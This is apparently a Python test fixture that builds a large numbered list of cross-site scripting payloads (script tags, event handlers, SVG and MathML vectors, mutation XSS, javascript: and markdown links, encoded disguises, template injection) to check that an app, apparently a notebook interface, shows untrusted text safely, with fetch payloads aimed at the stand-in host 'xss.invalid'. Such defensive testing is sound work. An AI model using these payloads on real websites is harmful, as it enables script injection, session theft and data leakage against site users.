"""Texts that do harm where they are taken for markup.

Each one calls `xss(its number)` when it executes, or asks `OUTSIDE` for its number when it fetches. A page that shows them as text does neither.
"""

from base64 import b64encode

OUTSIDE = "xss.invalid"
"""No such host can exist. Whatever is asked of it is seen by the test."""

_SCRIPTS = [
    "<script>@X</script>",
    "<ScRiPt >@X</sCrIpT>",
    "<script src=@H></script>",
    '"><script>@X</script>',
    "</script><script>@X</script>",
    "<script type=module>import('@H')</script>",
    "<svg><script>@X</script></svg>",
    "<svg><script href=@H /></svg>",
    "<scr\0ipt>@X</scr\0ipt>",
    "<scr<script>ipt>@X</scr</script>ipt>",
]
_HANDLERS = [
    "<img src=x onerror=@X>",
    "<img src=x oNeRrOr='@X'>",
    "<img/src/onerror=@X>",
    "<img src=x\nonerror\n=\n@X>",
    '<img src="x` `"` onerror=@X>',
    "<img src=x onerror=&#x78;ss&lpar;@N&rpar;>",
    "'><img src=x onerror=@X>",
    '"><img src=x onerror=@X>',
    "<body onload=@X>",
    "<input autofocus onfocus=@X>",
    "<select autofocus onfocus=@X></select>",
    "<details open ontoggle=@X>",
    "<video><source onerror=@X></video>",
    "<audio src=x onerror=@X></audio>",
    "<video src=x onerror=@X></video>",
    "<div onmouseover=@X>over</div>",
    "<div onpointerenter=@X>enter</div>",
    "<button onclick=@X>press</button>",
    "<p tabindex=0 onfocusin=@X>focus</p>",
    "<style>@keyframes k@N{}</style><i style='animation:k@N 1ms' onanimationstart=@X>a</i>",
    "<marquee onstart=@X>m</marquee>",
    "<xss contenteditable tabindex=1 onfocus=@X autofocus>own tag</xss>",
    "<object data=x onerror=@X></object>",
    "<iframe onload=@X></iframe>",
]
_VECTORS = [
    "<svg onload=@X>",
    "<svg/onload=@X>",
    "<svg><animate onbegin=@X attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:@X'><text y=20>link</text></a></svg>",
    "<svg><image href=@H></svg>",
    "<svg><foreignObject><img src=x onerror=@X></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=@H /></svg>#x'/></svg>",
    "<svg><rect width=9 height=9 fill='url(@H#p)'/></svg>",
    "<math href='javascript:@X'><mtext>link</mtext></math>",
]
_MUTATIONS = [
    "<svg></p><style><a id='</style><img src=x onerror=@X>'>",
    "<noscript><p title='</noscript><img src=x onerror=@X>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@X&gt;'></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@X>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=@X></style></annotation-xml></math>",
    "<template><img src=x onerror=@X></template>",
    "<div><template shadowrootmode=open><img src=x onerror=@X></template></div>",
    "<svg><desc><img src=x onerror=@X></desc></svg>",
    "<svg><![CDATA[><img src=x onerror=@X>]]></svg>",
    "<listing>&lt;img src=x onerror=@X&gt;</listing>",
    "<img src='&quot;><img src=x onerror=@X>'>",
]
_FRAMES = [
    "<iframe src='javascript:@X'></iframe>",
    "<iframe srcdoc='<script>@X</script>'></iframe>",
    "<iframe src='data:text/html,<script>@X</script>'></iframe>",
    "<iframe src=@H></iframe>",
    "<object data=@H></object>",
    "<embed src=@H>",
    "<object data='data:text/html;base64,@B'></object>",
    "<frameset><frame src='javascript:@X'></frameset>",
    "<portal src=@H></portal>",
]
_LINKS = [
    "<a href='javascript:@X'>link</a>",
    "<a href='JaVaScRiPt:@X'>link</a>",
    "<a href='java&#x73;cript:@X'>link</a>",
    "<a href='java\tscr\nipt:@X'>link</a>",
    "<a href=' \x01javascript:@X'>link</a>",
    "<a href='javascript&colon;@X'>link</a>",
    "<a href='data:text/html,<script>@X</script>'>link</a>",
    "<a href='vbscript:@X'>link</a>",
    "<a href='#' ping=@H>ping</a>",
    "<map name=m@N><area shape=default href='javascript:@X'></map><img usemap=#m@N>",
    "<form action='javascript:@X'><button>send</button></form>",
    "<form><button formaction='javascript:@X'>send</button></form>",
    "<form action=@H><input name=a></form>",
    "<form action=@H><input type=image src=@H></form>",
]
_FETCHES = [
    "<img src=@H>",
    "<img srcset='@H 1x'>",
    "<picture><source srcset=@H><img></picture>",
    "<img loading=eager src=http:@H>",
    "<video poster=@H></video>",
    "<video src=@H></video>",
    "<audio src=@H preload=auto></audio>",
    "<video><track default kind=captions src=@H></video>",
    "<link rel=stylesheet href=@H>",
    "<link rel=prefetch href=@H>",
    "<link rel=preload as=image href=@H>",
    "<link rel=modulepreload href=@H>",
    "<link rel=icon href=@H>",
    "<style>@import '@H';</style>",
    "<style>.jp-Notebook{background-image:url(@H)}</style>",
    "<style>@font-face{font-family:f@N;src:url(@H)}</style><b style='font-family:f@N'>font</b>",
    "<i style='background:url(@H)'>style</i>",
    '<i style="list-style:url(@H);display:list-item">style</i>',
    "<i style='content:image-set(\"@H\" 1x)'>style</i>",
    "<table background=@H><tr><td background=@H>cell</td></tr></table>",
]
_MARKDOWN = [
    "[link](javascript:@X)",
    "[link](<javascript:@X>)",
    "[link](\njava&#x73;cript:@X)",
    "[link](data:text/html,<script>@X</script>)",
    "![picture](http:@H)",
    "![picture][p@N]\n\n[p@N]: http:@H",
    '![x" onerror="@X](x)',
    '[x](http://e.example " onmouseover=@X x=")',
    "<javascript:@X>",
    '<http://e.example/"onmouseover=@X>',
    "**<img src=x onerror=@X>**",
    '```"><img src=x onerror=@X>\n</code></pre><img src=x onerror=@X>\n```',
    "| a |\n|---|\n| <img src=x onerror=@X> |",
    "# <img src=x onerror=@X>",
    "- [ ] <img src=x onerror=@X>",
]
_DISGUISES = [
    "</textarea><img src=x onerror=@X>",
    "</title><img src=x onerror=@X>",
    "</option></select><img src=x onerror=@X>",
    "</td></tr></table><img src=x onerror=@X>",
    "</summary></details><img src=x onerror=@X>",
    "--><img src=x onerror=@X>",
    "]]><img src=x onerror=@X>",
    '" onmouseover="@X" x="',
    "' autofocus onfocus='@X' x='",
    "&lt;img src=x onerror=@X&gt;",
    "&#60;img src=x onerror=@X&#62;",
    "&amp;lt;img src=x onerror=@X&amp;gt;",
    "\\u003cimg src=x onerror=@X\\u003e",
    "\\x3cimg src=x onerror=@X\\x3e",
    "%3Cimg src=x onerror=@X%3E",
    "\uff1cimg src=x onerror=@X\uff1e",
    "+ADw-img src=x onerror=@X+AD4-",
    "\u202e<img src=x onerror=@X>\u202c",
    "\x1b]8;;javascript:@X\x1b\\link\x1b]8;;\x1b\\ \x1b[31m<img src=x onerror=@X>\x1b[0m",
    "$\\href{javascript:@X}{link}$",
    "\\(\\href{javascript:@X}{link}\\)",
    "$$\\require{html}\\style{background:url(@H)}{x}$$",
    "\\begin{equation}\\href{javascript:@X}{link}\\end{equation}",
    "{{constructor.constructor('@X')()}}",
    "${@X}<%= @X %>{% @X %}#{@X}",
    "javascript:@X",
    "`${@X}`",
    '{"__proto__": {"innerHTML": "<img src=x onerror=@X>"}}',
]
_LAST = [
    "<meta http-equiv=refresh content='0;url=http:@H'>",
    "<base href=http:@H/><img src=base.png>",
    "<style><!--</style><img src=x onerror=@X>",
    "<plaintext onmouseover=@X>",
]
"""They change the page, or swallow what comes after them."""


def _numbered(texts):
    for n, text in enumerate(texts):
        inside = b64encode(f"<script>xss({n})</script>".encode()).decode()
        yield text.replace("@X", f"xss({n})").replace("@N", str(n)).replace("@H", f"//{OUTSIDE}/{n}").replace("@B", inside)


PAYLOADS = list(_numbered([*_SCRIPTS, *_HANDLERS, *_VECTORS, *_MUTATIONS, *_FRAMES, *_LINKS, *_FETCHES, *_MARKDOWN, *_DISGUISES, *_LAST]))
EVERYTHING = " ".join(PAYLOADS)
"""All of them in one text."""
NAME = "".join(c for c in EVERYTHING if c.isprintable())
"""All of them, as a node or a thread may be called."""


def chunks(most):
    """All of them in texts of at most so many characters, for places that cut or refuse a long one."""
    made = [""]
    for payload in PAYLOADS:
        if len(made[-1]) + len(payload) >= most:
            made.append("")
        made[-1] += f"{payload} "
    return made


def tagged(place, text=EVERYTHING):
    """The text, after a word by which the test finds the place where it was put."""
    return f"at{place}zz {text}"
